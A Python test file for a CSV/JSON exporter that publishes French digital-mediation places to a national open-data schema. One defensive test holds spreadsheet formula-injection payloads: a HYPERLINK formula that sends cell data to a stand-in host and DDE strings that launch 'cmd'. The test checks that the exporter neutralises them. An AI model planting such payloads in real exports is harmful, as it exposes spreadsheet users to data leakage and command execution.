"""National open-data export: rows follow the lieux de médiation numérique schema 1.0.1."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from datetime import date

import pytest

from resources.opendata import (
    EQUIPMENT_KINDS,
    EQUIPMENT_SERVICES,
    MULTI_VALUE_SEPARATOR,
    REQUIRED_FIELDS,
    SCHEMA_FIELDS,
    SCHEMA_PATTERNS,
    SCHEMA_VERSION,
    SERVICES_VOCABULARY,
    UNKNOWN_PIVOT,
    PlaceRecord,
    schema_id,
    services_for,
    to_csv,
    to_json,
    to_schema_rows,
)

FULL = PlaceRecord(
    id=7,
    name="Fablab du Trégor",
    address="12 rue de la Mairie",
    postcode="22300",
    town="Lannion",
    latitude=48.7325,
    longitude=-3.4566,
    siret="732 829 320 00074",
    phone="02 96 46 00 00",
    email="contact@fablab-tregor.fr",
    website="https://fablab-tregor.fr/",
    description="Imprimantes 3D, découpe laser et postes équipés, ouverts à tous.",
    opening_hours_osm="Mo-Fr 09:00-18:00; PH off",
    updated_on=date(2026, 11, 2),
    equipment_kinds=frozenset({"machine", "software_seats", "network_access", "space"}),
    base_url="https://reserver.lannion.fr/",
)


def make_place(**changes: object) -> PlaceRecord:
    """A place with only what the schema requires, plus the given changes."""
    minimal = PlaceRecord(
        id=1,
        name="Médiathèque",
        address="1 place du Marché",
        postcode="29200",
        town="Brest",
        latitude=None,
        longitude=None,
        siret=None,
        phone=None,
        email=None,
        website=None,
        description="",
        opening_hours_osm="",
        updated_on=date(2026, 1, 15),
        equipment_kinds=frozenset({"software_seats"}),
    )
    return replace(minimal, **changes)  # type: ignore[arg-type]


def parse_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_schema_field_list_is_the_published_one() -> None:
    assert SCHEMA_VERSION == "1.0.1"
    assert len(SCHEMA_FIELDS) == 32
    assert len(set(SCHEMA_FIELDS)) == len(SCHEMA_FIELDS)
    assert SCHEMA_FIELDS[:3] == ("id", "pivot", "nom")
    assert SCHEMA_FIELDS[-1] == "prise_rdv"
    assert set(REQUIRED_FIELDS) <= set(SCHEMA_FIELDS)
    assert set(SCHEMA_PATTERNS) <= set(SCHEMA_FIELDS)


def test_services_vocabulary_is_the_schema_pattern() -> None:
    # The constant and the verbatim pattern were copied separately: they must agree.
    alternatives = re.search(r"\(\?:\^\|\\\|\)\((.*)\)\)\+\$$", SCHEMA_PATTERNS["services"])
    assert alternatives is not None
    assert tuple(alternatives.group(1).split("|")) == SERVICES_VOCABULARY


def test_every_mapped_service_is_in_the_vocabulary() -> None:
    assert set(EQUIPMENT_SERVICES) == EQUIPMENT_KINDS
    for services in EQUIPMENT_SERVICES.values():
        assert set(services) <= set(SERVICES_VOCABULARY)


def test_place_with_everything() -> None:
    [row] = to_schema_rows([FULL])
    assert list(row) == list(SCHEMA_FIELDS)
    assert row == {
        "id": "mutualab-reserver.lannion.fr-7",
        "pivot": "73282932000074",
        "nom": "Fablab du Trégor",
        "commune": "Lannion",
        "code_postal": "22300",
        "code_insee": None,
        "adresse": "12 rue de la Mairie",
        "complement_adresse": None,
        "latitude": 48.7325,
        "longitude": -3.4566,
        "typologie": None,
        "telephone": "+33296460000",
        "courriels": "contact@fablab-tregor.fr",
        "site_web": "https://fablab-tregor.fr/",
        "horaires": "Mo-Fr 09:00-18:00; PH off",
        "presentation_resume": FULL.description,
        "presentation_detail": None,
        "source": "Mutualab",
        "itinerance": None,
        "structure_parente": None,
        "date_maj": "2026-11-02",
        "services": "Loisirs et créations numériques|Accès internet et matériel informatique",
        "publics_specifiquement_adresses": None,
        "prise_en_charge_specifique": None,
        "frais_a_charge": None,
        "dispositif_programmes_nationaux": None,
        "formations_labels": None,
        "autres_formations_labels": None,
        "modalites_acces": "Prendre un RDV en ligne",
        "modalites_accompagnement": None,
        "fiche_acces_libre": None,
        "prise_rdv": "https://reserver.lannion.fr/places/7",
    }
    for field, pattern in SCHEMA_PATTERNS.items():
        assert re.fullmatch(pattern, str(row[field])), field


def test_place_with_minimal_data() -> None:
    place = make_place()
    [row] = to_schema_rows([place], source="Ville de Brest")
    assert row["pivot"] == UNKNOWN_PIVOT
    assert re.fullmatch(SCHEMA_PATTERNS["pivot"], UNKNOWN_PIVOT)
    assert row["latitude"] is None
    assert row["longitude"] is None
    assert row["services"] == "Accès internet et matériel informatique"
    assert row["source"] == "Ville de Brest"
    filled = {field for field, value in row.items() if value is not None}
    assert filled == set(REQUIRED_FIELDS) | {"source"}

    [cells] = parse_csv(to_csv([place], source="Ville de Brest"))
    assert {field for field, value in cells.items() if value} == filled

    [document] = to_json([place], source="Ville de Brest")
    assert set(document) == filled


def test_csv_header_is_schema_order_and_parses_back_to_the_same_values() -> None:
    places = [FULL, make_place(id=2), make_place(id=3, latitude=47.0, longitude=0.00001)]
    text = to_csv(places)
    assert text.splitlines()[0] == ",".join(SCHEMA_FIELDS)
    parsed = parse_csv(text)
    rows = to_schema_rows(places)
    assert len(parsed) == len(rows) == 3
    for cells, row in zip(parsed, rows, strict=True):
        assert list(cells) == list(SCHEMA_FIELDS)
        for field in SCHEMA_FIELDS:
            value = row[field]
            if value is None:
                assert cells[field] == ""
            elif isinstance(value, float):
                assert float(cells[field]) == value
            else:
                assert cells[field] == value


def test_numbers_are_plain_decimals() -> None:
    place = make_place(latitude=48.0, longitude=0.00001)
    [cells] = parse_csv(to_csv([place]))
    assert cells["latitude"] == "48.0"
    assert cells["longitude"] == "0.00001"


@pytest.mark.parametrize(
    "name",
    [
        'Le "Garage", atelier partagé',
        "Tiers-lieu\nsur deux lignes",
        "Fin de ligne Windows\r\nincluse",
        "Point-virgule; et barre | verticale",
        "Œuvre d\u2019Éloïse — café associatif",  # typographic apostrophe
        "  espaces autour  ",
    ],
)
def test_awkward_names_round_trip(name: str) -> None:
    text = to_csv([make_place(name=name, description=name)])
    [cells] = parse_csv(text)
    assert cells["nom"] == name.strip()
    assert cells["presentation_resume"] == name.strip()
    assert len(parse_csv(text)) == 1


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Réserver")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_that_a_spreadsheet_would_run_is_inert(text: str) -> None:
    place = make_place(name=text, address=text, town=text, description=text, opening_hours_osm=text)
    [cells] = parse_csv(to_csv([place]))
    for field in ("nom", "adresse", "commune", "presentation_resume", "horaires"):
        assert cells[field] == "'" + text.strip()
    # The JSON form is not opened by spreadsheets: it keeps the text as it is.
    [document] = to_json([place])
    assert document["nom"] == text.strip()


def test_numbers_and_phone_numbers_are_not_made_text() -> None:
    place = make_place(latitude=48.7325, longitude=-3.4566, phone="02 96 46 00 00")
    [cells] = parse_csv(to_csv([place]))
    assert cells["longitude"] == "-3.4566"
    assert cells["telephone"] == "+33296460000"
    assert re.fullmatch(SCHEMA_PATTERNS["telephone"], cells["telephone"])


def test_csv_is_rfc_4180_and_utf8() -> None:
    text = to_csv([make_place(name="Café, « Écoles »")])
    assert text.endswith("\r\n")
    assert not text.startswith("\ufeff")
    assert '"Café, « Écoles »"' in text
    assert text.encode("utf-8").decode("utf-8") == text


def test_required_fields_are_never_empty() -> None:
    places = [
        FULL,
        make_place(id=2),
        make_place(id=3, equipment_kinds=frozenset({"machine"})),
        make_place(id=4, siret="not a siret"),
    ]
    for cells in parse_csv(to_csv(places)):
        for field in REQUIRED_FIELDS:
            assert cells[field].strip(), field


def test_services_are_all_inside_the_vocabulary() -> None:
    kinds = sorted(EQUIPMENT_KINDS)
    places = [
        make_place(id=index, equipment_kinds=frozenset(kinds[: index + 1]))
        for index in range(len(kinds))
    ]
    rows = to_schema_rows(places)
    assert rows
    for row in rows:
        services = str(row["services"]).split(MULTI_VALUE_SEPARATOR)
        assert services
        assert set(services) <= set(SERVICES_VOCABULARY)
        assert re.fullmatch(SCHEMA_PATTERNS["services"], str(row["services"]))


def test_services_mapping() -> None:
    assert services_for({"machine"}) == (
        "Loisirs et créations numériques",
        "Accès internet et matériel informatique",
    )
    assert services_for({"software_seats", "network_access"}) == (
        "Accès internet et matériel informatique",
    )
    assert services_for({"space", "other"}) == ()
    with pytest.raises(ValueError, match="machines"):
        services_for({"machines"})


def test_place_without_a_digital_service_is_left_out() -> None:
    rooms_only = make_place(id=9, equipment_kinds=frozenset({"space"}))
    assert to_schema_rows([rooms_only, make_place(id=10)])[0]["id"] == "mutualab-10"
    assert len(to_schema_rows([rooms_only])) == 0
    assert parse_csv(to_csv([rooms_only])) == []
    assert to_csv([rooms_only]) == ",".join(SCHEMA_FIELDS) + "\r\n"


@pytest.mark.parametrize(
    ("base_url", "expected"),
    [
        ("https://reserver.lannion.fr", "mutualab-reserver.lannion.fr-7"),
        ("https://Reserver.Lannion.FR/", "mutualab-reserver.lannion.fr-7"),
        ("https://mutualab.example.org/brest/", "mutualab-mutualab.example.org-brest-7"),
        ("http://localhost:8000", "mutualab-localhost-8000-7"),
        ("https://user:secret@host.example/", "mutualab-host.example-7"),
        ("reserver.lannion.fr", "mutualab-reserver.lannion.fr-7"),
        ("", "mutualab-7"),
    ],
)
def test_identifier_names_the_instance(base_url: str, expected: str) -> None:
    assert schema_id(make_place(id=7, base_url=base_url)) == expected


def test_identifier_is_stable_and_unique_across_instances() -> None:
    lannion = make_place(id=7, base_url="https://reserver.lannion.fr")
    brest = make_place(id=7, base_url="https://reserver.brest.fr")
    changed = replace(lannion, name="Nouveau nom", updated_on=date(2027, 1, 1))
    assert schema_id(lannion) != schema_id(brest)
    assert schema_id(changed) == schema_id(lannion)


def test_duplicate_place_is_refused() -> None:
    with pytest.raises(ValueError, match="appears twice"):
        to_schema_rows([make_place(id=1), make_place(id=1)])


def test_invalid_siret_is_published_as_unknown() -> None:
    [row] = to_schema_rows([make_place(siret="73282932000079")])
    assert row["pivot"] == UNKNOWN_PIVOT


@pytest.mark.parametrize(
    ("phone", "expected"),
    [
        ("02 96 46 00 00", "+33296460000"),
        ("02.96.46.00.00", "+33296460000"),
        ("+33 2 96 46 00 00", "+33296460000"),
        ("0033 2 96 46 00 00", "+33296460000"),
        ("06-12-34-56-78", "+33612345678"),
        ("0590 12 34 56", "+590590123456"),
        ("0590 12 34 56 78", None),
        ("0262 12 34 56", "+262262123456"),
        ("0692 12 34 56", "+262692123456"),
        ("0508 41 23 45", None),
        ("+44 20 7946 0958", None),
        ("ask at the desk", None),
        ("", None),
    ],
)
def test_phone_is_published_in_the_schema_format(phone: str, expected: str | None) -> None:
    [row] = to_schema_rows([make_place(phone=phone)])
    assert row["telephone"] == expected


def test_long_description_is_split_into_summary_and_detail() -> None:
    description = ("Un atelier de fabrication numérique ouvert à tous les habitants. " * 10).strip()
    [row] = to_schema_rows([make_place(description=description)])
    resume = str(row["presentation_resume"])
    assert len(resume) <= 280
    assert resume.endswith("…")
    assert description.startswith(resume[:-1])
    assert row["presentation_detail"] == description


def test_values_that_would_split_a_multi_valued_cell_are_not_published_as_such() -> None:
    [row] = to_schema_rows(
        [make_place(email="a|b@example.org", website="https://example.org/?q=a|b")]
    )
    assert row["courriels"] is None
    assert row["site_web"] == "https://example.org/?q=a%7Cb"


@pytest.mark.parametrize(
    ("latitude", "longitude"),
    [(48.7, None), (None, -3.4), (float("nan"), -3.4), (148.7, -3.4)],
)
def test_partial_or_absurd_coordinates_are_left_out(
    latitude: float | None, longitude: float | None
) -> None:
    [row] = to_schema_rows([make_place(latitude=latitude, longitude=longitude)])
    assert row["latitude"] is None
    assert row["longitude"] is None


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"name": "  "}, "nom is required"),
        ({"address": ""}, "adresse is required"),
        ({"town": ""}, "commune is required"),
        ({"postcode": "2230"}, "code_postal must have five digits"),
        ({"postcode": "2A004"}, "code_postal must have five digits"),
    ],
)
def test_missing_required_value_names_the_place(changes: dict[str, str], message: str) -> None:
    with pytest.raises(ValueError, match=message) as excinfo:
        to_schema_rows([make_place(id=42, **changes)])
    assert "place 42" in str(excinfo.value)


def test_json_form_keeps_csv_values_and_drops_unknowns() -> None:
    [document] = to_json([FULL])
    assert document["services"] == (
        "Loisirs et créations numériques|Accès internet et matériel informatique"
    )
    assert document["latitude"] == 48.7325
    assert "code_insee" not in document
    assert list(document) == [field for field in SCHEMA_FIELDS if field in document]
    assert json.loads(json.dumps(document, ensure_ascii=False)) == document
